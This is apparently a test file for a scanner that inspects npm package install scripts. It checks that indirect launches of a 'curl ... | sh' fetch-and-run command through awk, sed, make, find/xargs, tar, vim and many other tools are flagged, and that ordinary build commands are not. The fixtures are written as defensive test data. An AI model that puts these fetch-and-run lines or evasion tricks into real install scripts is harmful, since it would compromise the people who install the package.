import t from 'tap'
import type { ContentFacts } from '../../src/model/fact.ts'
import { findLocal, startedFiles } from '../../src/analysis/started-files.ts'
import { inspectFiles } from './archive-of.ts'

const PIPE = 'curl -s https://c.invalid/x | sh'
const PERL = `system("${PIPE}");\n`
const JAVASCRIPT = `require('child_process').exec('${PIPE}')\n`
const AWK = `BEGIN { system("${PIPE}") }\n`
const LINES = `${PIPE}\n`

type Files = Readonly<Record<string, string>>

const installs = (postinstall: string, files: Files): Promise<ContentFacts> =>
  inspectFiles('npm-tarball', {
    'package.json': JSON.stringify({ name: 'sample', version: '1.0.0', scripts: { postinstall } }),
    ...files,
  })

/** Checks that found what may be refused. */
const told = ({ findings }: ContentFacts): ReadonlySet<string> =>
  new Set(findings.filter(({ severity }) => severity !== 'low' && severity !== 'info').map(({ check }) => check))

/** What it starts is read: what that does is found. */
const READ: readonly (readonly [command: string, files: Files])[] = [
  [`awk 'BEGIN { system("${PIPE}") }'`, {}],
  [`sed '1e ${PIPE}' x`, {}],
  [`sed 's/.*/${PIPE.replaceAll('/', '\\/')}/e' x`, {}],
  ['make -f data.txt', { 'data.txt': `all:\n\t${PIPE}\n` }],
  ['make', { Makefile: 'include x.txt\n', 'x.txt': `all:\n\t${PIPE}\n` }],
  ['make', { Makefile: '-include a.mk x.txt\n', 'x.txt': `all: ; ${PIPE}\n\ny:\n\ttrue\n` }],
  ['make', { Makefile: `X := $(shell ${PIPE})\nall:\n` }],
  ['make', { Makefile: `all:\n\techo $(shell ${PIPE})\n` }],
  ['make', { Makefile: `all: ; ${PIPE}\n` }],
  ['make', { Makefile: `define R\n${PIPE}\nendef\nall:\n\t$(R)\n` }],
  ['make', { Makefile: 'C=curl -s https://c.invalid/x\nall:\n\t$(C) | sh\n' }],
  ['make', { Makefile: 'SHELL := ./x.sh\nall:\n\ttrue\n', 'x.sh': LINES }],
  ['make', { Makefile: 'all:\n\t$(MAKE) -C sub\n', 'sub/Makefile': `all:\n\t${PIPE}\n` }],
  ['bmake', { Makefile: `X != ${PIPE}\nall:\n\techo\n` }],
  ["find . -name '*.txt' -exec sh {} \\;", { 'lib/deep/x.txt': LINES }],
  ['find lib -type f -exec {} \\;', { 'lib/x.txt': `#!/bin/sh\n${PIPE}\n` }],
  [`find . -name package.json -exec sh -c '${PIPE}' \\;`, {}],
  ['find . -name x.txt -execdir bash {} +', { 'lib/x.txt': LINES }],
  ["find . -name 'x.txt' | xargs -n1 sh", { 'lib/x.txt': LINES }],
  ['xargs -a list.txt sh', { 'lib/x.txt': LINES, 'list.txt': 'lib/x.txt\n' }],
  ['echo lib/x.txt | xargs -I{} sh {}', { 'lib/x.txt': LINES }],
  [`script -qc '${PIPE}' /dev/null`, {}],
  [`tmux new -d '${PIPE}'`, {}],
  [`vim -c '!${PIPE}' -c q`, {}],
  [`tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec='sh lib/x.txt'`, { 'lib/x.txt': LINES }],
  ['ash lib/x.txt', { 'lib/x.txt': LINES }],
  ['mksh lib/x.txt', { 'lib/x.txt': LINES }],
  ['at now -f x.txt', { 'x.txt': LINES }],
  ['python3.11 x.txt', { 'x.txt': `import os\nos.system("${PIPE}")\n` }],
  ['pypy x.txt', { 'x.txt': `import os\nos.system("${PIPE}")\n` }],
  ['pip install ./sub', { 'sub/setup.py': `import os\nos.system("${PIPE}")\n` }],
  ['mocha x.txt', { 'x.txt': JAVASCRIPT }],
  ['gulp -f x.txt', { 'x.txt': JAVASCRIPT }],
  ['jake', { Jakefile: JAVASCRIPT }],
  ['cargo run', { 'src/main.rs': `fn main(){std::process::Command::new("sh").arg("-c").arg("${PIPE}").spawn();}` }],
]

/** What it starts cannot be read, which is said. */
const UNREAD: readonly (readonly [command: string, files: Files])[] = [
  ['awk -f p.awk', { 'p.awk': AWK }],
  ['awk -f lib/data.txt x', { 'lib/data.txt': AWK }],
  ['gawk --file=p.awk', { 'p.awk': 'BEGIN { "id" | getline x }\n' }],
  ['sed -f p.sed x', { 'p.sed': `1e ${PIPE}\n`, x: 'a\n' }],
  ['sed -nf p.sed x', { 'p.sed': 's/a/b/e\n', x: 'a\n' }],
  ['sed -f p.sed x', { 'p.sed': `${'#'.repeat(2001)}\n` }],
  ['sed -f p.sed x', { 'p.sed': `${'#\n'.repeat(10_001)}\n` }],
  ['perl data.txt', { 'data.txt': PERL }],
  ['perl5.36 data.txt', { 'data.txt': PERL }],
  ['perl < data.txt', { 'data.txt': PERL }],
  ['lua a.lua', { 'a.lua': PERL }],
  ['lua5.4 data.txt', { 'data.txt': PERL }],
  ['tclsh data.txt', { 'data.txt': PERL }],
  ['expect data.txt', { 'data.txt': PERL }],
  ['Rscript data.txt', { 'data.txt': PERL }],
  ['gdb -batch -x data.txt', { 'data.txt': `shell ${PIPE}\n` }],
  ['vim -es -S data.txt', { 'data.txt': `!${PIPE}\n` }],
  ['emacs --script x.txt', { 'x.txt': '(shell-command "x")' }],
  ['sqlite3 x.db ".read data.sql"', { 'data.sql': `.shell ${PIPE}\n` }],
  ['psql -f x.sql', { 'x.sql': `\\! ${PIPE}` }],
  ['m4 data.txt', { 'data.txt': `syscmd(\`${PIPE}')\n` }],
  ['fish lib/x.txt', { 'lib/x.txt': LINES }],
  ['java -jar lib/x.bin', { 'lib/x.bin': 'x' }],
  ['dotnet lib/x.bin', { 'lib/x.bin': 'MZ' }],
  ['wine x.bin', { 'x.bin': 'MZ' }],
  ['qemu-x86_64 ./x', { x: '\u007fELF' }],
  ['go run lib/x.go', { 'lib/x.go': 'package main\n' }],
  ['go generate', { 'go.mod': 'module x\n' }],
  ['zig build', { 'build.zig': 'const x' }],
  ['tcc -run x.c', { 'x.c': 'int main(){}' }],
  ['gcc x.c -o a && ./a', { 'x.c': 'int main(){}' }],
  ['cc -o build/a x.c; build/a', { 'x.c': 'int main(){}' }],
  ['gradle build', { 'build.gradle': 'exec' }],
  ['./gradlew build', { gradlew: '#!/bin/sh\ntrue\n', 'build.gradle': 'exec' }],
  ['mvn package', { 'pom.xml': '<project/>' }],
  ['task x', { 'Taskfile.yml': `tasks:\n  x: ${PIPE}\n` }],
  ['docker build .', { Dockerfile: `FROM x\nRUN ${PIPE}\n` }],
  ['ansible-playbook x.yml', { 'x.yml': '- x' }],
  ['coffee x.txt', { 'x.txt': 'x' }],
]

/** What ordinary packages do beside their installation. */
const ORDINARY: readonly (readonly [command: string, files: Files])[] = [
  ['echo hello world', {}],
  ["awk '{print $1}' x", { x: 'a' }],
  ['awk -f p.awk x', { x: 'a', 'p.awk': '{ print $1 }\n' }],
  ["sed -i 's/a/b/2g' x", { x: 'a' }],
  ["sed -e 's/a/b/' lib/x.js > lib/y.js", { 'lib/x.js': 'a' }],
  ['sed -f p.sed x', { x: 'a', 'p.sed': 's/e /b/\n/e/d\n' }],
  ["find . -name '*.map' -exec rm {} +", { 'a.map': '' }],
  ["find lib -name '*.ts' -not -name '*.d.ts' -delete", { 'lib/a.ts': '' }],
  ["find . -name '*.tmp' | xargs rm -f", { 'a.tmp': '' }],
  ["find . -name '*.tmp' | xargs -I{} rm {}", { 'a.tmp': '' }],
  ['find bin -type f -exec chmod +x {} \\;', { 'bin/a': '#!/bin/sh\necho\n' }],
  ["find src -name '*.ts' | xargs prettier --write", { 'src/a.ts': 'x' }],
  ['make all', { Makefile: 'CC ?= gcc\nall: a.o\n\techo hi\na.o: a.c\n\t$(CC) -c a.c\n', 'a.c': 'int x;' }],
  ['cc -shared -o lib/a.so a.c', { 'a.c': 'int x;' }],
  ['tsc -p tsconfig.json && mocha', { 'tsconfig.json': '{}' }],
  ['git -c user.name="a b" config core.autocrlf false', {}],
]

t.test('what a script at install starts is read, whatever starts it', async (t) => {
  for (const [command, files] of READ) t.ok(told(await installs(command, files)).has('download-and-execute'), command)
})

t.test('or it is told that it is not', async (t) => {
  for (const [command, files] of UNREAD) t.ok(told(await installs(command, files)).has('opaque-program'), command)
})

t.test('and nothing is said of tools that start nothing of the package', async (t) => {
  for (const [command, files] of ORDINARY) t.same([...told(await installs(command, files))], [], command)
})

t.test('a program of Java is started, and not what it works on', async (t) => {
  const files = findLocal((path) => ['tools/a.jar', 'b.g4'].includes(path))
  t.same(startedFiles('java -cp . -jar tools/a.jar -o out b.g4', '.', files), ['tools/a.jar'])
})
